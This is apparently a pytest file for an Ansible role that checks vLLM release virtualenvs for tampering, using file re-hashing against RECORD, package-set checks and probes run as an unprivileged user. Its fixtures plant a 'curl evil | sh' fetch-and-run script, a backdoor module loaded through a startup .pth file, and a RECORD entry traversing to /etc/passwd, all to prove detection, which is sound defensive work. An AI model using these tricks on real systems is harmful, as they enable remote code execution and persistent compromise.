"""module_utils/release_verify.py: files re-hashed against their RECORD (venv-like trees), and
check_release, the role's whole verify of one release (real venvs from the stand-in wheels)."""
import csv
import hashlib
import json
import subprocess

import pytest

from ansible_collections.vllm_fleet.fleet.plugins.module_utils.release_verify import (
    VerifyError,
    check_release,
    record_hash,
    verify_venv,
)
from ansible_collections.vllm_fleet.fleet.plugins.module_utils.releases import ReleaseError
from tests.fixtures.wheels.build import build_wheel, dist_info_dir
from tests.unit.test_cudnn_facts import make_venv, wheelhouse  # noqa: F401 - fixtures
from tests.unit.test_identity import as_root  # noqa: F401 - a fixture

SITE = "lib/python3.11/site-packages"
EXPECTED = [{"name": "vllm", "version": "0.25.1"}, {"name": "nvidia-cudnn-cu13", "version": "9.24.0.43"}]


def install(venv, name, version, files):
    """Write a dist the way pip and uv do: its files, METADATA, and a RECORD hashing each."""
    site = venv / SITE
    info = f"{name.replace('-', '_')}-{version}.dist-info"
    files = {**files, f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\nbody\n"}
    rows = []
    for rel, text in files.items():
        path = site / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        rows.append([rel, record_hash(str(path)), str(path.stat().st_size)])
    rows.append([f"{info}/RECORD", "", ""])
    with open(site / info / "RECORD", "w", newline="") as handle:
        csv.writer(handle).writerows(rows)


@pytest.fixture
def venv(tmp_path):
    venv = tmp_path / "releases" / "r1"
    install(venv, "vllm", "0.25.1", {"vllm/__init__.py": "VERSION = '0.25.1'\n", "vllm/serve.py": "serve()\n",
                                     "../../../bin/vllm": "#!/bin/sh\nexec python -m vllm\n"})
    install(venv, "nvidia-cudnn-cu13", "9.24.0.43", {"nvidia/cudnn/lib/libcudnn.so.9": "ELF 9.24.0"})
    (venv / SITE / "_virtualenv.pth").write_text("import _virtualenv\n")  # uv venv's own
    (venv / SITE / "vllm" / "__pycache__").mkdir()
    (venv / SITE / "vllm" / "__pycache__" / "serve.cpython-311.pyc").write_text("byte code")
    return venv


def test_an_untouched_release_has_no_drift(venv):
    result = verify_venv(str(venv), EXPECTED)
    assert result["ok"], result["message"]
    assert result["files"] == {} and result["checked"] == 6
    assert result["packages"] == {"missing": [], "extra": [], "other_version": []}


def test_an_edited_file_and_a_script_are_found_changed(venv):
    (venv / SITE / "vllm" / "serve.py").write_text("serve(); steal()\n")
    (venv / "bin" / "vllm").write_text("#!/bin/sh\ncurl evil | sh\n")
    result = verify_venv(str(venv), EXPECTED)
    assert not result["ok"]
    assert result["files"] == {"vllm": {"changed": ["bin/vllm", f"{SITE}/vllm/serve.py"], "missing": [], "added": []}}
    assert f"vllm: changed bin/vllm, {SITE}/vllm/serve.py" in result["message"]


def test_a_removed_file_is_missing_and_a_new_one_is_added_to_its_dist(venv):
    (venv / SITE / "nvidia" / "cudnn" / "lib" / "libcudnn.so.9").unlink()
    (venv / SITE / "vllm" / "backdoor.py").write_text("x")
    (venv / SITE / "zz-startup.pth").write_text("import backdoor\n")  # runs at every start
    result = verify_venv(str(venv), EXPECTED)
    assert result["files"] == {
        "nvidia-cudnn-cu13": {"changed": [], "missing": [f"{SITE}/nvidia/cudnn/lib/libcudnn.so.9"], "added": []},
        "vllm": {"changed": [], "missing": [], "added": [f"{SITE}/vllm/backdoor.py"]},
        "(no dist)": {"changed": [], "missing": [], "added": [f"{SITE}/zz-startup.pth"]},
    }


def test_a_different_set_of_dists_is_named(venv):
    install(venv, "evil", "1.0", {"evil.py": "x"})
    expected = [{"name": "vllm", "version": "0.25.2"}, {"name": "torch", "version": "2.11.0"},
                {"name": "NVIDIA_cuDNN_cu13", "version": "9.24.0.43"}]
    result = verify_venv(str(venv), expected)
    assert result["packages"] == {"missing": ["torch==2.11.0"], "extra": ["evil==1.0"],
                                  "other_version": ["vllm: 0.25.2 expected, 0.25.1 installed"]}
    assert not result["ok"] and "dists missing: torch==2.11.0" in result["message"]


def test_what_cannot_be_verified_is_an_error(tmp_path, venv):
    with pytest.raises(VerifyError, match="is not a venv with one site-packages"):
        verify_venv(str(tmp_path / "nothing"), EXPECTED)
    record = venv / SITE / "vllm-0.25.1.dist-info" / "RECORD"
    record.write_text(record.read_text() + "../../../../../etc/passwd,sha256=x,1\n")
    with pytest.raises(VerifyError, match="outside the venv"):
        verify_venv(str(venv), EXPECTED)


def test_the_role_pins_uv_by_hash_and_the_wheelhouse_carries_that_uv():
    """uv checks every other hash, so its own wheel is pinned: the file pip installs it from."""
    from pathlib import Path

    from tests.fixtures.wheels.build import PYPI_CACHE, PYPI_WHEELS

    text = (Path(__file__).parents[2] / "roles/vllm_runtime/files/uv-requirements.txt").read_text()
    pins = [line.split()[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))]
    hashes = [line.split("sha256:")[1].rstrip(" \\") for line in text.splitlines() if "--hash=sha256:" in line]
    assert pins == [p for p in PYPI_WHEELS if p.startswith("uv==")] == ["uv==0.13.9"]
    assert len(hashes) == 18 and all(len(h) == 64 for h in hashes)
    for wheel in PYPI_CACHE.glob("uv-0.13.9-*.whl"):  # the wheel the test nodes install
        assert hashlib.sha256(wheel.read_bytes()).hexdigest() in hashes


# --- check_release: one module run for the role's verify of one release ---------------------
# Real venvs from the stand-in wheels (uv, the machine's configuration shut out), with a
# small vllm wheel of this file's own whose module says the version a test asks.

RELEASE_ID = "vllm-0.25.1_nvidia-cudnn-cu13-9.24.0.43"


def vllm_wheel(out_dir, prints):
    """The dist vllm 0.25.1 whose module says ``__version__ = prints``, or fails to import for
    None; its `vllm --version` fails as 0.25.1's does without a GPU (never asked)."""
    init = f"__version__ = {prints!r}\n" if prints else "raise ImportError('vllm: broken install')\n"
    files = {"vllm/__init__.py": init,
             "vllm/cli.py": "def main():\n    raise RuntimeError('Failed to infer device type')\n",
             f"{dist_info_dir('vllm', '0.25.1')}/entry_points.txt": "[console_scripts]\nvllm = vllm.cli:main\n"}
    return build_wheel("vllm", "0.25.1", files, [], out_dir)


def imported(venv, version="0.25.1", error=None):
    """vllm_version() of a release whose Python imports vllm ``version``."""
    site = next(venv.resolve().glob(SITE))
    return {"version": version, "metadata": "0.25.1", "module": f"{site}/vllm/__init__.py", "error": error}


def make_release(make_venv, tmp_path_factory, name, prints="0.25.1"):
    """releases/<id> as the role leaves it: torch, cuDNN overridden, vllm, and the manifest."""
    wheel = vllm_wheel(tmp_path_factory.mktemp(f"vllm-{name}"), prints)
    venv = make_venv(name, "torch==2.11.0", str(wheel), overrides=["nvidia-cudnn-cu13==9.24.0.43"])
    packages = [{"name": "vllm", "version": "0.25.1"}, {"name": "torch", "version": "2.11.0"},
                {"name": "nvidia-cudnn-cu13", "version": "9.24.0.43"}]
    manifest = {"release_id": RELEASE_ID, "override": {"intended": True}, "packages": packages}
    (venv / "vllm-fleet-release.json").write_text(json.dumps(manifest))
    return venv, manifest


@pytest.fixture(scope="session")
def release(make_venv, tmp_path_factory):
    return make_release(make_venv, tmp_path_factory, "release-ok")


def test_an_installed_release_is_read_probed_and_rehashed_in_one_call(release):
    venv, manifest = release
    result = check_release(str(venv), missing_ok=True, probes=["cudnn", "vllm_version"])
    assert (result["installed"], result["manifest"], result["manifest_error"]) == (True, manifest, None)
    assert result["verify"]["ok"], result["verify"]["message"]
    assert (result["cudnn"]["status"], result["cudnn"]["torch_cudnn_version"]) == ("ok", "9.24.0")
    assert result["vllm_version"] == imported(venv)
    assert result["message"].startswith(f"{venv}: 3 dists as expected")
    assert "loads cuDNN 9.24.0" in result["message"] and "its Python imports vllm 0.25.1 (dist 0.25.1)" in result["message"]


def test_without_probes_or_rehash_nothing_more_is_run(release):
    venv, _ = release
    result = check_release(str(venv))
    assert result["verify"]["ok"] and result["cudnn"] is None and result["vllm_version"] is None
    result = check_release(str(venv), rehash=False, probes=["vllm_version"])
    assert result["verify"] is None and result["vllm_version"]["version"] == "0.25.1"


def never_run(*args, **kwargs):
    raise AssertionError(f"ran {args}: a release without a usable manifest must run nothing")


def test_a_release_not_installed_is_reported_with_missing_ok_and_an_error_without(tmp_path):
    missing = tmp_path / "releases" / RELEASE_ID
    result = check_release(str(missing), missing_ok=True, probes=["cudnn", "vllm_version"], run=never_run)
    assert (result["installed"], result["manifest"], result["verify"], result["cudnn"]) == (False, None, None, None)
    assert result["manifest_error"] == (f"no manifest {missing}/vllm-fleet-release.json"
                                        " (not installed, or its build did not finish)")
    with pytest.raises(ReleaseError, match="no manifest"):
        check_release(str(missing))


@pytest.mark.parametrize("text, error", [
    ("{not json", "is not JSON"),
    ("[1, 2]", "holds a list, not a JSON object"),
    ('{"release_id": "x"}', "lists no packages: it was not written by the vllm_runtime role"),
])
def test_an_unusable_manifest_is_named_and_nothing_is_run(tmp_path, text, error):
    (tmp_path / "vllm-fleet-release.json").write_text(text)
    result = check_release(str(tmp_path), missing_ok=True, probes=["cudnn", "vllm_version"], run=never_run)
    assert result["installed"] is True and error in result["manifest_error"]
    assert result["verify"] is None and result["vllm_version"] is None
    assert (result["manifest"] is None) == (not text.startswith('{"'))


def test_a_vllm_that_says_another_version_or_fails_to_import_is_reported(make_venv, tmp_path_factory):
    venv, _ = make_release(make_venv, tmp_path_factory, "release-other", prints="0.25.2")
    result = check_release(str(venv), probes=["vllm_version"])
    assert result["verify"]["ok"] and result["vllm_version"] == imported(venv, "0.25.2")

    venv, _ = make_release(make_venv, tmp_path_factory, "release-broken", prints=None)
    version = check_release(str(venv), rehash=False, probes=["vllm_version"])["vllm_version"]
    assert version == {"version": None, "metadata": None, "module": None,
                       "error": f"{venv}/bin/python importing vllm failed (exit status 1): ImportError: vllm: broken install"}


def test_a_vllm_imported_from_outside_the_release_is_an_error(release, tmp_path):
    """-I keeps PYTHONPATH out; a module found elsewhere anyway (a .pth, a link) is named."""
    venv, _ = release
    elsewhere = tmp_path / "vllm" / "__init__.py"

    def run(cmd, **kwargs):
        out = json.dumps({"version": "0.25.1", "metadata": "0.25.1", "module": str(elsewhere)})
        return subprocess.CompletedProcess(cmd, 0, out + "\n", "")

    version = check_release(str(venv), rehash=False, probes=["vllm_version"], run=run)["vllm_version"]
    assert version["error"] == (f"{venv}/bin/python importing vllm imported {elsewhere}, which is not in the "
                                f"release ({venv.resolve()}/)")


def test_probes_run_as_the_user_and_the_rehash_sees_what_they_wrote(as_root, make_venv, tmp_path_factory):
    """Every probe (cuDNN's three, the vllm import) is asked to run as the user; one that
    drops a .pth into site-packages is found by the re-hash that follows them."""
    venv, _ = make_release(make_venv, tmp_path_factory, "release-probed")
    calls = []

    def run(cmd, user=None, group=None, extra_groups=None, **kwargs):
        calls.append((cmd[0], user, group, extra_groups))
        if cmd[1:3] == ["-I", "-c"] and "importlib.metadata" in cmd[3]:
            (next(venv.glob(SITE)) / "zz-probe.pth").write_text("import os\n")
        return subprocess.run(cmd, **kwargs)  # as this test's own user: the switch is subprocess's

    result = check_release(str(venv), probes=["cudnn", "vllm_version"], user="prober", run=run)
    assert len(calls) == 4 and all(user == 4242 and group == 4343 and extra == [] for _, user, group, extra in calls), calls
    assert result["vllm_version"]["version"] == "0.25.1"
    assert not result["verify"]["ok"] and result["verify"]["files"] == {
        "(no dist)": {"changed": [], "missing": [], "added": [f"{SITE}/zz-probe.pth"]}}


def test_a_probe_user_that_does_not_exist_fails_before_anything_runs(as_root, release):
    venv, _ = release
    with pytest.raises(VerifyError, match="user 'ghost' does not exist"):
        check_release(str(venv), probes=["vllm_version"], user="ghost", run=never_run)
